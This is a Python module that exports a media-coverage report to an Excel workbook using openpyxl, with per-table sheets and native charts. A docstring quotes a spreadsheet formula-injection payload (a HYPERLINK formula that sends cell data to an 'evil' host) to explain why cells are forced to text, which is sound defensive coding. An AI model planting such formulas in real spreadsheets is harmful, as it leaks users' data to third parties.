"""The XLSX of a periodic report, with openpyxl: the same numbers as the PDF, one sheet per
table, and native Excel charts that point at the cells (so a person who corrects or extends
a table sees the chart follow), not pictures of charts."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.chart import BarChart, LineChart, Reference
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from ttdn.reports.pdf import country_name, nfc
from ttdn.reports.selectors import ReportData

HEADER_FILL = PatternFill("solid", fgColor="F1F3F5")
BOLD = Font(bold=True)


def _put(ws: Worksheet, row: int, column: int, value: Any) -> Any:
    """Write one cell; text always as text. openpyxl stores a string starting with "=" as a
    formula, and story titles, outlet names and report titles come from third parties or
    users: ``=HYPERLINK("http://evil/?"&A1, "click")`` must arrive as those characters,
    never run (the CSV export escapes the same way, `ttdn.web.export`)."""
    cell = ws.cell(row=row, column=column, value=nfc(value) if isinstance(value, str) else value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def _sheet_title(text: str) -> str:
    """Excel refuses []:*?/\\ in sheet names and more than 31 characters."""
    for bad in "[]:*?/\\":
        text = text.replace(bad, " ")
    return nfc(text)[:31]


def _table(
    ws: Worksheet, header: Sequence[str], rows: Sequence[Sequence[Any]], *, row: int = 1
) -> int:
    for col, title in enumerate(header, 1):
        cell = _put(ws, row, col, title)
        cell.font, cell.fill = BOLD, HEADER_FILL
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    for r, values in enumerate(rows, row + 1):
        for col, value in enumerate(values, 1):
            _put(ws, r, col, value)
    for col, title in enumerate(header, 1):
        longest = max([len(str(title))] + [len(str(v[col - 1] or "")) for v in rows[:200]])
        ws.column_dimensions[get_column_letter(col)].width = min(60, max(10, longest + 2))
    ws.freeze_panes = ws.cell(row=row + 1, column=1)
    return row + len(rows)


def _bar(ws: Worksheet, title: str, first: int, last: int, value_col: int, anchor: str,
         *, horizontal: bool = True) -> None:  # fmt: skip
    if last <= first:
        return
    chart = BarChart()
    chart.type = "bar" if horizontal else "col"
    chart.title = nfc(title)
    chart.legend = None
    chart.add_data(
        Reference(ws, min_col=value_col, min_row=first, max_row=last), titles_from_data=True
    )
    chart.set_categories(Reference(ws, min_col=1, min_row=first + 1, max_row=last))
    chart.height, chart.width = max(7.5, 0.6 * (last - first) + 3), 18
    if horizontal:
        chart.y_axis.majorGridlines = None
        chart.x_axis.scaling.orientation = "maxMin"  # largest at the top, as in the PDF
    ws.add_chart(chart, anchor)


def render_xlsx(data: ReportData, *, title: str, subtitle: str, path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    ws.title = _sheet_title(_("Tổng quan"))
    _put(ws, 1, 1, title).font = Font(bold=True, size=14)
    _put(ws, 2, 1, subtitle)
    _put(
        ws,
        3,
        1,
        _("Số liệu từ %(a)s đến %(b)s")
        % {"a": f"{data.period_start:%d/%m/%Y}", "b": f"{data.data_end:%d/%m/%Y}"},
    )
    t = data.totals
    _table(
        ws,
        (_("Chỉ số"), _("Giá trị")),
        [
            (_("Bài báo"), t.get("reports")),
            (_("Bài gốc (không tính bản sao)"), t.get("unique_reports")),
            (_("Câu chuyện"), t.get("stories")),
            (_("Sắc thái trung bình (−1…1)"), t.get("mean_tone")),
            (_("% bài tích cực"), t.get("pct_positive")),
            (_("% bài tiêu cực"), t.get("pct_negative")),
            (_("Bài báo kỳ trước cùng độ dài"), data.previous_totals.get("reports")),
        ],
        row=5,
    )
    ws.column_dimensions["A"].width = 42

    # volume over time, with a native line chart
    vs = wb.create_sheet(_sheet_title(_("Lượng tin theo thời gian")))
    rows = [
        (r["bucket"], r["reports"], r["unique_reports"], r["stories"]) for r in data.volume.rows
    ]
    last = _table(vs, (_("Kỳ"), _("Bài báo"), _("Bài gốc"), _("Câu chuyện")), rows)
    if rows:
        chart = LineChart()
        chart.title = nfc(_("Lượng tin theo thời gian"))
        chart.y_axis.title = nfc(_("Bài báo"))
        chart.add_data(Reference(vs, min_col=2, max_col=3, min_row=1, max_row=last),
                       titles_from_data=True)  # fmt: skip
        chart.set_categories(Reference(vs, min_col=1, min_row=2, max_row=last))
        chart.height, chart.width = 9, 22
        vs.add_chart(chart, "F2")

    if data.tone_series:
        ts = wb.create_sheet(_sheet_title(_("Sắc thái theo thời gian")))
        rows = [
            (r["bucket"], r["mean_tone"], r["pct_positive"], r["pct_negative"])
            for r in data.tone_series
        ]
        last = _table(ts, (_("Kỳ"), _("Sắc thái trung bình"), _("% tích cực"), _("% tiêu cực")),
                      rows)  # fmt: skip
        chart = LineChart()
        chart.title = nfc(_("Sắc thái theo thời gian"))
        chart.add_data(Reference(ts, min_col=2, min_row=1, max_row=last), titles_from_data=True)
        chart.set_categories(Reference(ts, min_col=1, min_row=2, max_row=last))
        chart.y_axis.scaling.min, chart.y_axis.scaling.max = -1, 1
        chart.height, chart.width = 9, 22
        ts.add_chart(chart, "F2")

    if data.years:
        ys = wb.create_sheet(_sheet_title(_("Đánh giá theo năm")))
        rows = [(y["year"], y["reports"], y["unique_reports"], y["change_pct"]) for y in data.years]
        last = _table(
            ys, (_("Năm"), _("Bài báo"), _("Bài gốc"), _("Thay đổi so với năm trước (%)")), rows
        )
        # years as text, so Excel uses them as categories and not as a series
        for r in range(2, last + 1):
            _put(ys, r, 1, str(ys.cell(row=r, column=1).value))
        _bar(ys, _("Bài báo theo năm"), 1, last, 2, "F2", horizontal=False)

    if data.targets:  # Coordinate's figures against the programme's targets
        tg = wb.create_sheet(_sheet_title(_("So với mục tiêu")))
        rows = [
            (evaluation.title, str(y), a, t, p)
            for evaluation in data.targets
            for y, a, t, p in evaluation.rows
        ]
        _table(tg, (_("Chỉ tiêu"), _("Năm"), _("Thực hiện"), _("Mục tiêu"), _("% mục tiêu")), rows)

    cs = wb.create_sheet(_sheet_title(_("Quốc gia")))
    rows = [
        (r["country"] or _("Không rõ"), country_name(r["country"]), r["reports"],
         r["unique_reports"], r["stories"], r["mean_tone"])
        for r in data.countries.rows
    ]  # fmt: skip
    last = _table(
        cs,
        (_("Quốc gia của cơ quan báo chí"), _("Tên"), _("Bài báo"), _("Bài gốc"),
         _("Câu chuyện"), _("Sắc thái trung bình")),
        rows,
    )  # fmt: skip
    _bar(cs, _("Đưa tin theo quốc gia của cơ quan báo chí"), 1, last, 3, "H2")

    if data.share_of_voice is not None:
        ss = wb.create_sheet(_sheet_title(_("Tỷ lệ tiếng nói")))
        rows = [(r["country"], r["reports"], r["share_pct"]) for r in data.share_of_voice.rows]
        last = _table(ss, (_("Quốc gia"), _("Bài báo"), _("Tỷ lệ tiếng nói (%)")), rows)
        _bar(ss, _("Tỷ lệ tiếng nói so với các nước (%)"), 1, last, 3, "E2")

    ds = wb.create_sheet(_sheet_title(_("Khía cạnh")))
    rows = [(d["label"], d["reports"]) for d in data.dimensions]
    last = _table(ds, (_("Khía cạnh hình ảnh quốc gia"), _("Bài báo")), rows)
    _bar(ds, _("Khía cạnh hình ảnh quốc gia"), 1, last, 2, "D2")

    st = wb.create_sheet(_sheet_title(_("Câu chuyện nổi bật")))
    _table(
        st,
        ("#", _("Câu chuyện"), _("Ngôn ngữ"), _("Bài báo"), _("Bài gốc"),
         _("Số quốc gia đưa tin"), _("Sắc thái trung bình")),
        [
            (r["rank"], r["title"], r["language"], r["reports"], r["unique_reports"],
             r["outlet_countries"], r["mean_tone"])
            for r in data.top_stories.rows
        ],
    )  # fmt: skip

    ms = wb.create_sheet(_sheet_title(_("Phương pháp")))
    _table(
        ms,
        (_("Chỉ số"), _("Mã"), _("Phiên bản")),
        [(t_, key, version) for key, version, t_ in data.indicators],
    )
    wb.properties.title = nfc(title)
    wb.properties.creator = "TTĐN Platform"
    wb.save(path)
